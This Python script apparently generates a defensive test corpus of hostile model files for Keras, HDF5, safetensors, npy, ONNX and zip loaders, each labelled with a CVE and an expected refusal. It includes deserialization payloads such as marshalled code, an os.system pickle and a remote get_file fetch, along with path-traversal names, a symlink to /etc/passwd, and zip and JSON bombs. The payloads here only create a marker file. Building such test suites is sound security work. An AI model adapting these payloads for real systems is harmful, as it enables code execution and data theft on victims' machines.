"""Writes `hostile.zip`: small files that want more than to be read, and `hostile.json`, which says what each wants.

    python hostile.py

A file a known weakness of Keras has its number. Nothing in them does harm when it works: code would make a file named
`wgrad-hostile-ran`, paths and links lead to files every system has, addresses to names nobody can have.
"""

import base64
import json
import marshal
import os
import struct

from hostile_bytes import entry, gz, h5, keras, npy, onnx_model, safetensors, stored, zip_file

HERE = os.path.dirname(os.path.abspath(__file__))
FILES = []


def hostile(name, data, what, says=None, cve=None, outcome="refused"):
    """`outcome`: `refused`, or `untouched`: it may be read, as long as nothing outside it is."""
    FILES.append((name, data, {"file": name, "what": what, "cve": cve, "outcome": outcome, "says": says}))


CODE = base64.b64encode(marshal.dumps(compile("open('wgrad-hostile-ran', 'w')", "x", "eval"))).decode()
DENSE = {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
         "config": {"name": "dense", "units": 2, "activation": "linear"}}  # fmt: skip


def layer(class_name, module="keras.layers", registered=None, **config):
    return {"module": module, "class_name": class_name, "config": {"name": "victim", **config}, "registered_name": registered}


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def layers_that_are_code():
    code = {"class_name": "__lambda__", "config": {"code": CODE, "defaults": None, "closure": None}}
    hostile("lambda.keras", keras(layer("Lambda", function=code)), "a layer of Python code", "Lambda", "CVE-2024-3660")
    hostile("lambda_by_name.keras", keras(layer("Lambda", function=function("os", "system"), arguments={"command": "true"})),
            "a layer that calls any function of any module", "Lambda", "CVE-2025-1550")
    get_file = {"origin": "http://wgrad.invalid/x", "fname": "wgrad-hostile-ran", "cache_dir": "."}
    hostile("lambda_of_keras.keras", keras(layer("Lambda", function=function("keras.utils", "get_file"), arguments=get_file)),
            "a layer that calls a function of Keras itself, which fetches files", "Lambda", "CVE-2025-8747")
    unsafe = layer("Lambda", function=function("keras.config", "enable_unsafe_deserialization"))
    hostile("unsafe_switched_on.keras", keras(unsafe, layer("Lambda", function=code)),
            "a layer that switches refusals off for the next", "Lambda", "CVE-2025-9906")
    old = {"class_name": "Lambda", "config": {"name": "victim", "function": [CODE, None, None], "function_type": "lambda"}}
    hostile("lambda.h5", h5(config=[old]), "a layer of Python code in HDF5", "Lambda", "CVE-2025-9905")
    pickle = base64.b64encode(b"cos\nsystem\n(S'touch wgrad-hostile-ran'\ntR.").decode()
    hostile("torch_module.keras", keras(layer("TorchModuleWrapper", torch_module=pickle, module=pickle)),
            "a layer that is a pickle", "TorchModuleWrapper", "CVE-2025-49655")
    hostile("saved_model.keras", keras(layer("TFSMLayer", filepath="/etc", call_endpoint="serve")),
            "a layer that loads a TensorFlow graph from a folder", "TFSMLayer", "CVE-2026-1462")
    for name, path in [("file", "/etc/passwd"), ("address", "http://wgrad.invalid/vocabulary")]:
        hostile(f"vocabulary_from_{name}.keras", keras(layer("StringLookup", vocabulary=path)),
                f"a vocabulary read from {path}", "StringLookup", "CVE-2025-12058")
    hostile("unknown_layer.keras", keras(layer("WarpDrive")), "a layer nobody knows", "WarpDrive")
    hostile("registered_layer.keras", keras(layer("Dense", "my_package", "my_package>Dense", units=2)),
            "a layer registered by somebody, named as one of Keras", "my_package")
    hostile("module_of_os.keras", keras(layer("system", "os", command="true")), "a layer that is a function of os", "system")
    hostile("activation_by_name.keras", keras(layer("Dense", units=2, activation=function("os", "abort"))),
            "an activation that is any function", "abort")
    hostile("activation_code.keras", keras(layer("Dense", units=2, activation=code)), "an activation of Python code", "__lambda__")
    hostile("initializer_by_name.keras", keras(layer("Dense", units=2, kernel_initializer=layer("Popen", "subprocess", args="true"))),
            "an initializer that is any class", "Popen")
    compiled = {"optimizer": layer("Popen", "subprocess"), "loss": function("os", "system"), "metrics": [code]}
    hostile("compiled_by_name.keras", keras(DENSE, compile_config=compiled), "an optimizer that is any class", "Popen")
    hostile("loss_by_name.keras", keras(DENSE, compile_config={"optimizer": "sgd", "loss": function("os", "system")}),
            "a loss that is any function", "system")
    wrapped = layer("Bidirectional", layer=layer("Lambda", function=code))
    hostile("wrapped_lambda.keras", keras(wrapped), "code within a wrapper", "Bidirectional")


def numbers_in_the_architecture():
    for name, config, says in [
        ("units_huge", {"units": 2**60}, "units"), ("units_negative", {"units": -1}, "units"),
        ("units_fraction", {"units": 1.5}, "units"), ("units_float", {"units": 1e308}, "units"),
        ("units_more_than_stored", {"units": 2**31}, None),
    ]:  # fmt: skip
        hostile(f"{name}.keras", keras(layer("Dense", **config)), f"a Dense layer with {config}", says)
    hostile("table_huge.keras", keras(layer("Embedding", input_dim=2**40, output_dim=2**20)), "a table of 2^60 numbers")
    hostile("input_huge.keras", keras(layer("Flatten"), shape=[2**32, 2**32, 2]), "an input whose size overflows 64 bits")
    hostile("input_negative.keras", keras(layer("Flatten"), shape=[-3]), "an input of a negative size")
    hostile("reshape_twice.keras", keras(layer("Reshape", target_shape=[-1, -1])), "a shape with two unknowns", "victim")
    hostile("axis_far.keras", keras(layer("BatchNormalization", axis=-(2**63))), "an axis far out", "victim")
    hostile("input_of_0.keras", keras(layer("Dense", units=2), shape=[0]), "an input without numbers")
    t = lambda *history: {"class_name": "__keras_tensor__", "config": {"shape": [None, 3], "dtype": "float32", "keras_history": history}}

    def graph(*edges, out=("b", 0, 0)):
        first = {"module": "keras.layers", "class_name": "InputLayer", "name": "i", "inbound_nodes": [],
                 "config": {"name": "i", "batch_shape": [None, 3], "dtype": "float32"}}  # fmt: skip
        rest = [{**DENSE, "config": {**DENSE["config"], "name": n, "units": 3}, "name": n,
                 "inbound_nodes": [{"args": [t(*h)], "kwargs": {}} for h in histories]} for n, histories in edges]  # fmt: skip
        return keras(functional={"name": "g", "layers": [first, *rest], "input_layers": [["i", 0, 0]], "output_layers": [list(out)]})

    hostile("graph_cycle.keras", graph(("a", [("b", 0, 0)]), ("b", [("a", 0, 0)])), "layers in a circle")
    hostile("graph_of_itself.keras", graph(("b", [("b", 0, 0)])), "a layer that is its own input")
    hostile("graph_unknown.keras", graph(("b", [("nobody", 0, 0)])), "an input from a layer that is not there", "nobody")
    hostile("graph_index.keras", graph(("b", [("i", 2**62, 2**62)])), "the 2^62nd call of a layer")
    hostile("graph_output.keras", graph(("b", [("i", 0, 0)]), out=("b", 7, -1)), "an output that nobody makes")
    hostile("graph_one_name.keras", graph(("b", [("i", 0, 0)]), ("b", [("i", 0, 0)])), "two layers of one name")
    doubled = [(f"n{k}", [(f"n{k - 1}" if k else "i", 0, 0)] * 2) for k in range(3)]
    hostile("graph_calls.keras", graph(*doubled, out=("n2", 1, 0)), "layers called twice on one input", outcome="untouched")


def names_and_paths():
    for name, text in [("up", "../../wgrad-hostile-ran"), ("root", "/tmp/wgrad-hostile-ran"), ("nothing", ""), ("zero", "a\0b"), ("drive", "C:\\x")]:
        named = {**DENSE, "config": {**DENSE["config"], "name": text}}
        hostile(f"layer_named_{name}.keras", keras(named, kernel=True), f"a layer named {text!r}",
                cve="CVE-2026-12479" if name == "up" else None, outcome="untouched")  # fmt: skip
    good = {n: d for n, d in stored(DENSE, kernel=True)}
    for name, path in [("up", "../wgrad-hostile-ran"), ("root", "/tmp/wgrad-hostile-ran"), ("assets", "assets/../../wgrad-hostile-ran")]:
        hostile(f"zip_member_{name}.keras", zip_file({**good, path: b"x"}), f"a member named {path}", cve="CVE-2025-12638", outcome="untouched")
    link = entry("assets/link", b"/etc/passwd", mode=0o120777)
    hostile("zip_link.keras", zip_file(good, link), "a member that is a symbolic link", outcome="untouched")


def hdf5_that_leads_elsewhere():
    for name, what, cve in [
        ("shape_bomb", "a kernel of 2^40 numbers, none of them stored", "CVE-2026-0897"),
        ("chunk_bomb", "a kernel in chunks of 2^31 bytes", None),
        ("external_link", "a data set that is a link into another file", None),
        ("soft_link", "a data set that is a link by a path", None),
        ("external_data", "a data set whose numbers are in another file", None),
        ("virtual_data", "a data set made of other files'", None),
        ("circle", "a group within itself", None),
        ("deep", "300 groups within each other", None),
        ("filter", "numbers packed by a filter of h5py's own, LZF", None),
        ("strings", "a kernel of strings", None),
        ("compound", "a kernel of records", None),
        ("negative_index", "data sets with numbers that are not 0, 1, …", None),
    ]:  # fmt: skip
        # LZF is no part of HDF5; a reader may know it.
        hostile(f"{name}.weights.h5", h5(weights=name), what, cve=cve, outcome="untouched" if name == "filter" else "refused")
    hostile("config_missing.h5", h5(config=None), "a whole model without its config")
    hostile("config_number.h5", h5(config=7), "a config that is a number")
    hostile("names_missing.h5", h5(config=[DENSE], names=None), "weights without the list of layers")
    hostile("names_wrong.h5", h5(config=[DENSE], names=["../model_weights"]), "a list of layers that leads out of its group")
    whole = h5(weights="plain")
    hostile("cut.weights.h5", whole[:700], "half a file")
    hostile("empty.weights.h5", b"", "nothing")
    at = whole.index(b"\x89HDF")
    hostile("end_far.weights.h5", whole[: at + 40] + struct.pack("<Q", 2**63) + whole[at + 48 :], "an end of file far away")
    hostile("base_far.weights.h5", whole[: at + 24] + struct.pack("<Q", 2**64 - 8) + whole[at + 32 :], "a start of data far away")


def zips_that_grow():
    config = json.dumps({"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": []}}).encode()
    zeros = entry("config.json", b"\0" * 10_000_000, deflate=True)
    hostile("zip_bomb_config.keras", zip_file({}, zeros), "a config of 10 MB of zeros in 10 KB")
    blank = entry("config.json", b" " * 8_000_000 + config, deflate=True)
    hostile("zip_bomb_spaces.keras", zip_file({}, blank), "a config behind 8 MB of spaces", outcome="untouched")
    deep = entry("config.json", b"[" * 1_000_000, deflate=True)
    hostile("json_deep.keras", zip_file({}, deep), "a config of a million brackets")
    objects = entry("config.json", b'{"config":' * 200_000, deflate=True)
    hostile("json_deep_objects.keras", zip_file({}, objects), "a config of 200,000 objects within each other")
    nested = entry("config.json", nested_models(2_000), deflate=True)
    hostile("models_deep.keras", zip_file({}, nested), "2,000 models within each other")
    for name, size in [("lies_4g", 2**32 - 1), ("lies_small", 3)]:
        lie = entry("config.json", config, says=size)
        hostile(f"zip_{name}.keras", zip_file({"model.weights.h5": b""}, lie), f"a member that says it has {size} bytes")
    huge = entry("config.json", config, zip64=2**63)
    hostile("zip64_lies.keras", zip_file({}, huge), "a member that says in 64 bits it has 2^63 bytes")
    hostile("zip_two_configs.keras", zip_file({}, entry("config.json", config), entry("config.json", b"{}")), "two configs")
    hostile("zip_encrypted.keras", zip_file({}, entry("config.json", config, flags=1)), "an encrypted member")
    hostile("zip_method.keras", zip_file({}, entry("config.json", config, method=99)), "a packing nobody knows")
    hostile("zip_crc.keras", zip_file({"model.weights.h5": b""}, entry("config.json", config, crc=1)), "a member with a wrong checksum")
    hostile("zip_offset.keras", zip_file({}, entry("config.json", config, offset=2**32 - 2)), "a member beyond the end")
    hostile("zip_count.keras", zip_file({"config.json": config}, count=65_535), "a directory that says it has 65,535 members")
    hostile("zip_overlap.keras", zip_file({}, *[entry(n, config, offset=0) for n in ("config.json", "model.weights.h5", "metadata.json")]),
            "members that share their bytes")
    hostile("zip_cut.keras", zip_file({"config.json": config})[:-30], "half an archive")
    hostile("not_a_zip.keras", b"PK\x03\x04" + b"\0" * 60, "the first bytes of an archive")
    hostile("config_not_text.keras", zip_file({"config.json": b'{"class_name": "\xff\xfe"}'}), "a config that is not UTF-8")
    hostile("config_nan.keras", keras(layer("Dropout", rate=float("nan"))), "a rate that is not a number")


def nested_models(depth):
    """Without the inner ones' braces closed by a library that would recurse."""
    open_ = '{"module":"keras","class_name":"Sequential","config":{"name":"s","layers":['
    return (open_ * depth + "]}}" * depth).encode()


def other_formats():
    hostile("header_2_64.safetensors", struct.pack("<Q", 2**64 - 1) + b"{}", "a header of 2^64 bytes")
    hostile("header_beyond.safetensors", struct.pack("<Q", 1000) + b"{}", "a header longer than the file")
    t = lambda shape, begin, end, dtype="F32": {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}
    for name, tensors, what in [
        ("beyond", {"a": t([4], 0, 16)}, "a tensor beyond the end"),
        ("overlap", {"a": t([2], 0, 8), "b": t([2], 4, 12)}, "tensors that share bytes"),
        ("hole", {"a": t([1], 4, 8)}, "bytes of no tensor"),
        ("backwards", {"a": t([1], 8, 4)}, "a tensor that ends before it begins"),
        ("size", {"a": t([3], 0, 8)}, "a shape of another size than its bytes"),
        ("overflow", {"a": t([2**32, 2**32], 0, 8)}, "a shape whose size overflows 64 bits"),
        ("dtype", {"a": t([1], 0, 8, "Q7")}, "numbers of a type nobody knows"),
        ("text", {"a": {"dtype": "F32", "shape": "x", "data_offsets": []}}, "a shape that is a word"),
    ]:  # fmt: skip
        hostile(f"{name}.safetensors", safetensors(tensors, b"\0" * 8), what)
    hostile("json_deep.safetensors", struct.pack("<Q", 8_000) + b"[" * 8_000, "a header of 8,000 brackets")
    hostile("header_4g.npy", b"\x93NUMPY\x02\x00" + struct.pack("<I", 2**32 - 1) + b"{", "a header of 4 GiB")
    for name, header, what in [
        ("shape_huge", "{'descr': '<f4', 'fortran_order': False, 'shape': (4611686018427387904, 4), }", "a shape whose size overflows"),
        ("shape_beyond", "{'descr': '<f4', 'fortran_order': False, 'shape': (1000000000,), }", "4 GB of numbers, none there"),
        ("pickle", "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", "numbers that are Python objects"),
        ("negative", "{'descr': '<f4', 'fortran_order': False, 'shape': (-4,), }", "a negative shape"),
        ("code", "__import__('os').system('touch wgrad-hostile-ran')", "a header that is Python code"),
        ("deep", "{'descr': " + "(" * 4_000 + ", }", "a header of 4,000 brackets"),
    ]:  # fmt: skip
        hostile(f"{name}.npy", npy(header), what)
    for name, what in [("dims_huge", "a tensor of 2^120 numbers"), ("dims_negative", "a tensor of a negative shape"),
                       ("external", "a tensor whose numbers are in /etc/passwd"), ("short", "a tensor of fewer bytes than its shape"),
                       ("deep", "300 graphs within each other"), ("custom", "an operator of another domain"),
                       ("cycle", "nodes in a circle"), ("missing", "an input that nobody makes"),
                       ("twice", "a value that is made twice"), ("length", "a field longer than the file"),
                       ("groups", "groups within each other, which protobuf once had"), ("varint", "a number of more than 64 bits")]:  # fmt: skip
        hostile(f"{name}.onnx", onnx_model(name), what)
    images = struct.pack(">BBBBIII", 0, 0, 8, 3, 2**31, 2**15, 2**15)
    hostile("images_huge.idx.gz", gz(images), "2^61 images, none there")
    hostile("images_bomb.idx.gz", gz(struct.pack(">BBBBIII", 0, 0, 8, 3, 10, 28, 28) + b"\0" * 10_000_000), "10 images, and 10 MB behind them")
    hostile("gz_cut.idx.gz", gz(images + b"\0" * 1000)[:-9], "half a packed file")


if __name__ == "__main__":
    for part in (layers_that_are_code, numbers_in_the_architecture, names_and_paths, hdf5_that_leads_elsewhere,
                 zips_that_grow, other_formats):  # fmt: skip
        part()
    packed = zip_file({}, *[entry(name, data, deflate=True) for name, data, _ in FILES])
    with open(os.path.join(HERE, "hostile.zip"), "wb") as f:
        f.write(packed)
    with open(os.path.join(HERE, "hostile.json"), "w") as f:
        f.write("[\n" + ",\n".join(json.dumps(about) for _, _, about in FILES) + "\n]\n")
    print(f"{len(FILES)} files, {sum(len(d) for _, d, _ in FILES):,} bytes, packed {len(packed):,}")
